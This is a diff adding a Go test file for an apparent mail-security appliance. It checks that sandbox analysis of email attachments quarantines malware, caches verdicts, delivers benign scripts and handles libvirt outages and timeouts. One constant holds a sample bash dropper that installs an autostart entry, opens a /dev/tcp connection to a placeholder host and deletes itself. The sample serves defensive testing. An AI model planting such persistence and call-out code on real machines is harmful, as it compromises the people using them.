@@ -1,0 +1,221 @@
+package appliance
+
+import (
+	"context"
+	"encoding/hex"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"mailinspector/internal/cli"
+	"mailinspector/internal/testutil"
+)
+
+// sandboxApp starts an appliance whose virtual analyzer uses a private
+// libvirtd's test driver, with n loopback guests running the real agent
+// under strace for its instances (testutil.SandboxGuests).
+func sandboxApp(t *testing.T, n int, overrides map[string]string) (*Appliance, *testutil.Libvirtd) {
+	t.Helper()
+	lvd := testutil.StartLibvirtd(t)
+	dir := t.TempDir()
+	secret := []byte("0123456789abcdef0123456789abcdef")
+	must(t, os.WriteFile(filepath.Join(dir, "sandbox.secret"), []byte(hex.EncodeToString(secret)), 0o600))
+	g := testutil.StartSandboxGuests(t, lvd, secret, "linux", [4]byte{127, 0, 0, 10}, n)
+	tmpl, err := filepath.Abs("../internal/sandbox/testdata/test-domain.xml")
+	must(t, err)
+	vals := map[string]string{"sandbox.libvirt": lvd.URI(), "sandbox.domain_template": tmpl, "sandbox.agent_base": g.Addrs[0],
+		"sandbox.instances": strconv.Itoa(n), "sandbox.call_timeout": "5s", "sandbox.run_time": "20s"}
+	for k, v := range overrides {
+		vals[k] = v
+	}
+	return startApp(t, dir, vals), lvd
+}
+
+// sendNew sends a message and returns the ID the appliance gave it.
+func sendNew(t *testing.T, a *Appliance, body string) string {
+	t.Helper()
+	before, err := a.Messages(context.Background(), 1000)
+	must(t, err)
+	must(t, send(t, a.SMTPAddr().String(), "bob@example.org", []string{"alice@example.com"}, body))
+	after, err := a.Messages(context.Background(), 1000)
+	must(t, err)
+	if len(after) != len(before)+1 {
+		t.Fatalf("%d messages before, %d after", len(before), len(after))
+	}
+	return after[0].ID
+}
+
+func findingOf(d *cli.MessageDetail, engine string) *cli.Finding {
+	for i := range d.Findings {
+		if d.Findings[i].Engine == engine {
+			return &d.Findings[i]
+		}
+	}
+	return nil
+}
+
+func trailEntry(d *cli.MessageDetail, stage string) cli.TrailEntry {
+	var last cli.TrailEntry
+	for _, e := range d.Trail {
+		if e.Stage == stage {
+			last = e
+		}
+	}
+	return last
+}
+
+const dropper = `#!/bin/bash
+mkdir -p "$HOME/.config/autostart"
+printf '[Desktop Entry]\nExec=%s/.local/bin/upd\n' "$HOME" > "$HOME/.config/autostart/upd.desktop"
+timeout 1 bash -c 'exec 3<>/dev/tcp/192.0.2.1/443' 2>/dev/null
+rm -f "$0"
+`
+
+// From SMTP to verdict: a script attachment that installs itself and
+// calls out is held until the sandbox has judged it, then quarantined as
+// high-risk malware; the same attachment in a later message reuses the
+// verdict; a benign script goes through with "no risk". show analysis and
+// show sandbox tell what happened.
+func TestSandboxVerdictInTheMailFlow(t *testing.T) {
+	t.Setenv("HOME", t.TempDir()) // the loopback guests' agents run samples as us
+	a, _ := sandboxApp(t, 1, nil)
+	addr := a.SMTPAddr().String()
+	must(t, send(t, addr, "bob@example.org", []string{"alice@example.com"}, withAttachment("invoice", "application/octet-stream", "invoice.sh", []byte(dropper))))
+	id := onlyMessage(t, a).ID
+	d := waitState(t, a, id, "quarantined", 90*time.Second)
+	f := findingOf(d, "virtual-analyzer")
+	if f == nil || f.Risk != "high" || f.Threat != "malware" || !strings.Contains(f.Detail, "persistence") || f.Object != sha([]byte(dropper)) {
+		t.Fatalf("finding %+v; trail %+v", f, d.Trail)
+	}
+	if d.Reason != "threat" {
+		t.Errorf("reason %q", d.Reason)
+	}
+	var held bool
+	for _, e := range d.Trail {
+		if e.Stage == "virtual-analyzer" && strings.HasPrefix(e.Detail, "waiting for the sandbox") {
+			held = true
+		}
+	}
+	if !held {
+		t.Errorf("the message never waited for the sandbox: %+v", d.Trail)
+	}
+
+	v, err := cli.Exec(context.Background(), a, "show analysis "+sha([]byte(dropper)))
+	must(t, err)
+	an := v.(*cli.Analysis)
+	var rep struct {
+		Verdict struct {
+			Risk    string
+			Matches []struct{ ID string }
+		}
+		Report struct {
+			Ran    bool
+			Events []struct{ Type, Path string }
+		}
+	}
+	must(t, json.Unmarshal(an.Report, &rep))
+	if an.State != "done" || an.Risk != "high" || rep.Verdict.Risk != "high" || !rep.Report.Ran || len(rep.Report.Events) == 0 {
+		t.Fatalf("analysis %+v / %+v", an, rep)
+	}
+	row, err := a.db.SandboxAnalysis(context.Background(), an.SHA256)
+	must(t, err)
+	if !strings.Contains(string(row.HTML), "<h1>Virtual analyzer report") {
+		t.Errorf("no HTML report stored")
+	}
+
+	// The same sample again: the stored verdict, no second run.
+	again := sendNew(t, a, withAttachment("invoice again", "application/octet-stream", "copy.sh", []byte(dropper)))
+	d = waitState(t, a, again, "quarantined", 60*time.Second)
+	if e := trailEntry(d, "virtual-analyzer"); e.Outcome != "finding" {
+		t.Errorf("the repeated sample: %+v", d.Trail)
+	}
+	for _, e := range d.Trail {
+		if e.Stage == "virtual-analyzer" && strings.HasPrefix(e.Detail, "waiting") {
+			t.Errorf("the repeated sample waited for a run: %+v", e)
+		}
+	}
+	// A benign script: runs, no risk, delivered.
+	benign := sendNew(t, a, withAttachment("figures", "text/x-sh", "figures.sh", []byte("#!/bin/sh\necho quarterly figures\n")))
+	d = waitState(t, a, benign, "delivered", 60*time.Second)
+	if e := trailEntry(d, "virtual-analyzer"); e.Outcome != "ok" || !strings.Contains(e.Detail, "no risk") {
+		t.Errorf("the benign script: %+v", e)
+	}
+	sv, err := cli.Exec(context.Background(), a, "show sandbox")
+	must(t, err)
+	st := sv.(*cli.Sandbox)
+	if !st.Configured || st.Status == nil || !st.Status.Libvirt.Connected || st.Accelerator != "test driver" ||
+		st.Status.Counters.Finished != 2 || st.Status.Counters.Reverts != 2 || len(st.Status.Recent) != 2 {
+		t.Fatalf("show sandbox %+v %+v", st, st.Status)
+	}
+	text, err := cli.Render(sv, false)
+	must(t, err)
+	if !strings.Contains(text, "mi-sbx-linux-0") || !strings.Contains(text, "test driver") {
+		t.Errorf("show sandbox text:\n%s", text)
+	}
+}
+
+// libvirt out of reach: the step is skipped and says so, the mail is not
+// held, and sandbox.on_error decides (quarantine with va-error by
+// default; deliver when so set). Unconfigured, nothing changes for mail.
+func TestSandboxOutOfReach(t *testing.T) {
+	tmpl, err := filepath.Abs("../internal/sandbox/testdata/test-domain.xml")
+	must(t, err)
+	dead := "test+unix:///default?socket=" + filepath.Join(t.TempDir(), "no-libvirtd.sock")
+	for _, tc := range []struct {
+		onError, state, reason string
+	}{{"quarantine", "quarantined", "va-error"}, {"deliver", "delivered", ""}} {
+		t.Run(tc.onError, func(t *testing.T) {
+			a := startApp(t, t.TempDir(), map[string]string{"sandbox.libvirt": dead, "sandbox.domain_template": tmpl,
+				"sandbox.instances": "1", "sandbox.call_timeout": "1s", "sandbox.on_error": tc.onError})
+			// Wait until the pool has given up on its instance.
+			deadline := time.Now().Add(30 * time.Second)
+			for a.va.Usable() == nil {
+				if time.Now().After(deadline) {
+					t.Fatal("the instance never went out of the pool")
+				}
+				time.Sleep(20 * time.Millisecond)
+			}
+			must(t, send(t, a.SMTPAddr().String(), "bob@example.org", []string{"alice@example.com"},
+				withAttachment("unanalysed", "application/octet-stream", "tool.sh", []byte("#!/bin/sh\necho hi\n"))))
+			d := waitState(t, a, onlyMessage(t, a).ID, tc.state, 30*time.Second)
+			e := trailEntry(d, "virtual-analyzer")
+			if e.Outcome != "skipped" || !strings.HasPrefix(e.Detail, "libvirt: ") || e.MS > 1000 {
+				t.Fatalf("trail entry %+v", e)
+			}
+			if d.Reason != tc.reason {
+				t.Fatalf("reason %q, want %q", d.Reason, tc.reason)
+			}
+			svcs, err := a.Services(context.Background())
+			must(t, err)
+			for _, s := range svcs {
+				if s.Name == "libvirt" && s.Skips == 0 {
+					t.Errorf("libvirt status %+v", s)
+				}
+			}
+		})
+	}
+	a := startApp(t, t.TempDir(), nil)
+	must(t, send(t, a.SMTPAddr().String(), "bob@example.org", []string{"alice@example.com"},
+		withAttachment("no sandbox", "application/octet-stream", "tool.sh", []byte("#!/bin/sh\necho hi\n"))))
+	d := waitState(t, a, onlyMessage(t, a).ID, "delivered", 30*time.Second)
+	if e := trailEntry(d, "virtual-analyzer"); e.Outcome != "skipped" || !strings.Contains(e.Detail, "not configured") {
+		t.Fatalf("unconfigured: %+v", e)
+	}
+}
+
+// A verdict that does not come within sandbox.submission_timeout: the
+// message is quarantined with va-timeout.
+func TestSandboxSubmissionTimeout(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	a, _ := sandboxApp(t, 1, map[string]string{"sandbox.submission_timeout": "2s", "sandbox.run_time": "30s"})
+	must(t, send(t, a.SMTPAddr().String(), "bob@example.org", []string{"alice@example.com"},
+		withAttachment("slow", "application/octet-stream", "slow.sh", []byte("#!/bin/sh\nsleep 25\n"))))
+	d := waitState(t, a, onlyMessage(t, a).ID, "quarantined", 60*time.Second)
+	if d.Reason != "va-timeout" {
+		t.Fatalf("reason %q; trail %+v", d.Reason, d.Trail)
+	}
+}
